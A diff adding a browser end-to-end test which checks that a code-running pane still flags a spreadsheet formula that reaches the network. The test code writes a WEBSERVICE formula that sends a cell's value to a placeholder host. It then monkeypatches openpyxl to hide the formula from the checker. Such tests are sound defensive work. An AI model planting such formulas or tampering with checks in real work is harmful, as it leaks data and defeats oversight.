@@ -152,6 +152,28 @@ describe('the pane, end to end', () => {
     await page.close();
   });
 
+  it('still names it when the code tampered with openpyxl to hide it: the check runs in a fresh interpreter', async () => {
+    const page = await context.newPage();
+    await page.goto(url);
+    await page.getByTestId('runtime-status').filter({ hasText: /ready/ }).waitFor({ timeout: 90_000 });
+    // The check reads outputs with openpyxl in read-only mode; this makes every read-only sheet look empty.
+    const tamper = [
+      'import openpyxl',
+      'wb = openpyxl.Workbook()',
+      'wb.active["A1"] = \'=WEBSERVICE("https://prices.example/?q="&B1)\'',
+      'wb.save("/output/hidden.xlsx")',
+      'ro = openpyxl.load_workbook("/output/hidden.xlsx", read_only=True)',
+      'type(ro.active).iter_rows = lambda self, *a, **k: iter(())',
+    ].join('\n');
+    await page.getByTestId('code').fill(tamper);
+    await page.getByTestId('run').click();
+    const warning = page.getByTestId('output-risks');
+    await warning.waitFor({ timeout: 60_000 });
+    await expect(warning.textContent()).resolves.toMatch(/1 formula in hidden\.xlsx may reach the network.*Sheet!A1 \(WEBSERVICE\)/);
+    await expect(page.getByTestId('download').isDisabled()).resolves.toBe(true);
+    await page.close();
+  });
+
   it('never sent a request off localhost', () => {
     expect(requests.offHost).toEqual([]);
   });
